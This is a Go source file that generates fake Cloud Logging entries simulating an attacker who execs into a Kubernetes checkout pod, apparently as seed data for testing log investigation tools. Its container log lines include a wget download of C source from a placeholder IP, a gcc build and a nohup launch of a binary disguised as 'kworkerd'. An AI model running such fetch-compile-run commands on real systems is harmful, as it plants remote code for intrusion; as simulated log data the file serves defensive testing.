package loggingfake

import (
	"time"

	"cloud.google.com/go/logging/apiv2/loggingpb"
	"google.golang.org/genproto/googleapis/api/monitoredres"
	ltype "google.golang.org/genproto/googleapis/logging/type"
)

const (
	attackerIP        = "198.51.100.23"
	attackerPrincipal = "dev-laptop@demo-prod.iam.gserviceaccount.com"
	podResource       = "core/v1/namespaces/" + GKENamespace + "/pods/" + GKEPod
)

// gke tells the GKE compiler story: someone execs into the checkout pod,
// downloads a C file and compiles it with gcc, while the app keeps
// serving; the cluster audit log shows the exec, and the node's serial
// console and container runtime log show the same moment.
func (b *seedBuilder) gke() []*loggingpb.LogEntry {
	var out []*loggingpb.LogEntry
	out = append(out, b.gkeAudit()...)
	out = append(out, b.gkeContainer()...)
	return append(out, b.gkeNode()...)
}

func gkeContainerResource() *monitoredres.MonitoredResource {
	return resource("k8s_container", "project_id", GKEProject, "location", GKELocation,
		"cluster_name", GKECluster, "namespace_name", GKENamespace, "pod_name", GKEPod,
		"container_name", GKEContainer)
}

func (b *seedBuilder) container(offset time.Duration, logID string, sev ltype.LogSeverity) *loggingpb.LogEntry {
	e := b.entry(offset, GKEProject, logID, gkeContainerResource(), sev)
	return withLabels(e, "k8s-pod/app", "checkout", "k8s-pod/pod-template-hash", "7d9f8b6c5",
		computeResourceNameLb, GKENode)
}

func (b *seedBuilder) gkeContainer() []*loggingpb.LogEntry {
	return []*loggingpb.LogEntry{
		withJSON(b.container(-20*time.Minute, "stdout", ltype.LogSeverity_INFO), map[string]any{
			"level": "info", "msg": "charge accepted", "order_id": "ord_81f3c2", "latency_ms": 42}),
		withText(b.container(-3*time.Minute-10*time.Second, "stderr", ltype.LogSeverity_ERROR),
			"+ wget -q -O /tmp/.cache/kworkerd.c http://203.0.113.50/k.c"),
		withText(b.container(-2*time.Second, "stderr", ltype.LogSeverity_ERROR),
			"+ gcc -O2 -static -o kworkerd kworkerd.c -lpthread"),
		withText(b.container(-time.Second, "stderr", ltype.LogSeverity_ERROR),
			"kworkerd.c: In function 'main':"),
		withText(b.container(-time.Second+10*time.Millisecond, "stderr", ltype.LogSeverity_ERROR),
			"kworkerd.c:57:9: warning: implicit declaration of function 'setuid' [-Wimplicit-function-declaration]"),
		withText(b.container(2*time.Second, "stderr", ltype.LogSeverity_ERROR),
			"/usr/bin/ld: /tmp/ccQ1x9Zb.o: in function `main': warning: Using 'getaddrinfo' in statically "+
				"linked applications requires at runtime the shared libraries from the glibc version used for linking"),
		withText(b.container(4*time.Second, "stderr", ltype.LogSeverity_ERROR),
			"+ nohup /tmp/.cache/kworkerd"),
		withJSON(b.container(40*time.Second, "stdout", ltype.LogSeverity_WARNING), map[string]any{
			"level": "warn", "msg": "payment gateway latency high", "p99_ms": 1840}),
		withJSON(b.container(3*time.Minute, "stdout", ltype.LogSeverity_INFO), map[string]any{
			"event": "healthcheck", "status": "ok", "uptime_s": 41213}),
	}
}

func (b *seedBuilder) clusterAudit(offset time.Duration, c auditCall) *loggingpb.LogEntry {
	res := resource("k8s_cluster", "project_id", GKEProject, "location", GKELocation, "cluster_name", GKECluster)
	sev := ltype.LogSeverity_NOTICE
	if c.code != 0 {
		sev = ltype.LogSeverity_ERROR
	}
	c.service = "k8s.io"
	return withAudit(b.entry(offset, GKEProject, auditActivityLog, res, sev), c)
}

func (b *seedBuilder) gkeAudit() []*loggingpb.LogEntry {
	return []*loggingpb.LogEntry{
		b.clusterAudit(-25*time.Minute, auditCall{method: "io.k8s.core.v1.pods.create",
			resource: podResource, principal: "system:serviceaccount:kube-system:replicaset-controller"}),
		b.clusterAudit(-4*time.Minute, auditCall{method: "io.k8s.core.v1.secrets.list",
			resource: "core/v1/namespaces/" + GKENamespace + "/secrets", principal: attackerPrincipal,
			callerIP: attackerIP, code: 7, message: `secrets is forbidden: User "` + attackerPrincipal +
				`" cannot list resource "secrets" in API group "" in the namespace "payments"`}),
		b.clusterAudit(-3*time.Minute-30*time.Second, auditCall{method: "io.k8s.core.v1.pods.exec.create",
			resource: podResource + "/exec", principal: attackerPrincipal, callerIP: attackerIP}),
		b.clusterAudit(-20*time.Second, auditCall{method: "io.k8s.core.v1.pods.exec.create",
			resource: podResource + "/exec", principal: attackerPrincipal, callerIP: attackerIP}),
	}
}

func (b *seedBuilder) node(offset time.Duration, logID string, sev ltype.LogSeverity) *loggingpb.LogEntry {
	res := resource("gce_instance", "project_id", GKEProject, "instance_id", GKENodeInstanceID, "zone", GKENodeZone)
	return withLabels(b.entry(offset, GKEProject, logID, res, sev), computeResourceNameLb, GKENode)
}

func (b *seedBuilder) gkeNode() []*loggingpb.LogEntry {
	return []*loggingpb.LogEntry{
		withText(b.node(-3*time.Minute-29*time.Second, containerRuntimeLog, ltype.LogSeverity_INFO),
			`time="`+b.at.Add(-3*time.Minute-29*time.Second).Format(time.RFC3339Nano)+
				`" level=info msg="ExecSync for \"9b1c0e7f4d2a\" with command [/bin/sh] and timeout 0 (s)"`),
		withText(b.node(-time.Second, serialConsoleLog, ltype.LogSeverity_DEFAULT),
			`[88124.417263] audit: type=1400 apparmor="DENIED" operation="ptrace" profile="cri-containerd.apparmor.d" pid=48213 comm="gcc"`),
		withText(b.node(5*time.Second, serialConsoleLog, ltype.LogSeverity_DEFAULT),
			"[88130.002118] kworkerd[48301]: segfault at 0 ip 0000000000401d2e sp 00007ffd3c9a1e80 error 6 in kworkerd[401000+9b000]"),
	}
}
